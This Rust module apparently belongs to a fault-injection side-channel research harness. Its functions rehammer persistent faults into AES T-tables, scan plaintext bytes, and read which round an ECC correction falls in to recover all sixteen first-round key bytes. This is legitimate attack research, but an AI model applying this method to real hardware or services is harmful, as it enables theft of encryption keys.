//! Key-byte extraction from correction timing alone.

use rand::Rng;
use serde::{Deserialize, Serialize};

use crate::aes::{PersistentFault, TableId};

use super::{EccError, EccOracle};

pub const QUIET_RETRY_BUDGET: usize = 1000;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct ScanStep {
    pub scanned_value: u8,
    pub correction_round: Option<u8>,
    pub restarted: bool,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ScanResult {
    pub recovered_key_byte: u8,
    pub winning_value: u8,
    pub restarts: u32,
    pub encryptions_used: u32,
    pub steps: Vec<ScanStep>,
}

/// Draws random plaintexts until one encrypts without any correction,
/// re-hammering whenever a probe scrubbed the fault.
pub fn find_quiet_plaintext<R: Rng + ?Sized>(
    oracle: &mut EccOracle,
    rng: &mut R,
    budget: usize,
) -> Result<[u8; 16], EccError> {
    for _ in 0..budget {
        let pt: [u8; 16] = rng.random();
        let obs = oracle.observe(&pt);
        if !obs.corrected(oracle.config()) {
            return Ok(pt);
        }
        oracle.rehammer()?;
    }
    Err(EccError::QuietBudgetExhausted(budget))
}

/// Varies plaintext byte `position` through 0..=255 with the other bytes
/// fixed to a quiet `base`. The first round-1 correction pins
/// `pt[position] ^ key[position] = t`.
///
/// `table` must be a main table serving `position`'s row in round 1 and `t`
/// the faulty entry the attacker templated.
pub fn scan_byte(
    oracle: &mut EccOracle,
    base: &[u8; 16],
    position: usize,
    table: TableId,
    t: u8,
) -> Result<ScanResult, EccError> {
    if table.last_round || position >= 16 || position % 4 != table.index as usize {
        return Err(EccError::PositionNotServed { position, table });
    }
    oracle.rehammer()?;
    let mut pt = *base;
    let mut restarts = 0;
    let mut steps = Vec::new();
    for v in 0..=255u8 {
        pt[position] = v;
        let obs = oracle.observe(&pt);
        match obs.correction_round {
            Some(1) => {
                steps.push(ScanStep { scanned_value: v, correction_round: Some(1), restarted: false });
                return Ok(ScanResult {
                    recovered_key_byte: v ^ t,
                    winning_value: v,
                    restarts,
                    encryptions_used: steps.len() as u32,
                    steps,
                });
            }
            Some(r) => {
                restarts += 1;
                steps.push(ScanStep { scanned_value: v, correction_round: Some(r), restarted: true });
                oracle.rehammer()?;
            }
            None if obs.corrected(oracle.config()) => return Err(EccError::RoundUnobservable),
            None => steps.push(ScanStep { scanned_value: v, correction_round: None, restarted: false }),
        }
    }
    Err(EccError::ScanExhausted { position })
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FirstRoundKey {
    pub key: [u8; 16],
    /// Restarts spent on each key byte, by state position.
    pub restarts: [u32; 16],
    pub encryptions: u64,
    pub hammer_events: u64,
}

impl FirstRoundKey {
    /// Count of bytes per restart total, indexed by restarts.
    pub fn restart_histogram(&self) -> Vec<u32> {
        let max = self.restarts.iter().copied().max().unwrap_or(0) as usize;
        let mut h = vec![0; max + 1];
        for &r in &self.restarts {
            h[r as usize] += 1;
        }
        h
    }
}

/// Recovers all 16 round-1 key bytes, placing `schedule[j]` (a fault in
/// `Te_j`) to read the four bytes of state row `j`.
pub fn recover_first_round_key<R: Rng + ?Sized>(
    oracle: &mut EccOracle,
    schedule: &[PersistentFault; 4],
    rng: &mut R,
) -> Result<FirstRoundKey, EccError> {
    let start = oracle.encryptions();
    let hammers = oracle.hammer_events();
    let mut key = [0u8; 16];
    let mut restarts = [0u32; 16];
    for (row, fault) in schedule.iter().enumerate() {
        if fault.table != TableId::te(row as u8) {
            return Err(EccError::PositionNotServed { position: row, table: fault.table });
        }
        oracle.place_fault(*fault)?;
        let base = find_quiet_plaintext(oracle, rng, QUIET_RETRY_BUDGET)?;
        for col in 0..4 {
            let pos = 4 * col + row;
            let r = scan_byte(oracle, &base, pos, fault.table, fault.entry)?;
            key[pos] = r.recovered_key_byte;
            restarts[pos] = r.restarts;
        }
    }
    Ok(FirstRoundKey {
        key,
        restarts,
        encryptions: oracle.encryptions() - start,
        hammer_events: oracle.hammer_events() - hammers,
    })
}
